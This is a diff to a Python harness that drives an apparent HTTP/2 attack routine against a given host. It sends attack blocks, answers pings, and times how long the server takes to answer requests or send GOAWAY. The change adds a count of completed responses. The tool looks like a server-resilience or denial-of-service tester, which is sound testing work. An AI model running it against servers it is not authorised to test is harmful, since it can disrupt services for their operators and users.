@@ -92,8 +92,8 @@ def frames(buffer):
         del buffer[: 9 + length]
 
 
-def read(connection, buffer):
-    """What the server says; pings are answered, so that the connection counts as alive. A code, if it sends GOAWAY."""
+def read(connection, buffer, answered):
+    """What the server says; answers are counted, and pings are answered, so that the connection counts as alive. A code, if it sends GOAWAY."""
     connection.settimeout(0.01)
     try:
         chunk = connection.recv(1 << 16)
@@ -105,6 +105,7 @@ def read(connection, buffer):
     for kind, flags, payload in frames(buffer):
         if kind == GOAWAY and int.from_bytes(payload[4:8], "big") != 0:
             return int.from_bytes(payload[4:8], "big")
+        answered[0] += kind == HEADERS and bool(flags & END_STREAM)
         if kind == PING and not flags & ACK:
             connection.sendall(frame(PING, ACK, 0, payload))
         if kind == SETTINGS and not flags & ACK:
@@ -116,7 +117,7 @@ def main(kind, host, port, path, patience=PATIENCE, message=""):
     started = time.monotonic()
     spent = lambda: f"{time.monotonic() - started:.1f}"
     connection, buffer = begin(host, int(port), kind), bytearray()
-    blocks = attack(kind, path, base64.b64decode(message))
+    blocks, answered = attack(kind, path, base64.b64decode(message)), [0]
     try:
         while time.monotonic() - started < float(patience):
             connection.settimeout(0.2)
@@ -124,7 +125,9 @@ def main(kind, host, port, path, patience=PATIENCE, message=""):
                 connection.sendall(next(blocks, b""))
             except TimeoutError:
                 pass
-            code = read(connection, buffer)
+            code = read(connection, buffer, answered)
+            if kind == "unsent" and answered[0] == 100:
+                return f"answered {spent()}"
             if code is not None:
                 return f"goaway {code} {spent()}"
     except OSError:
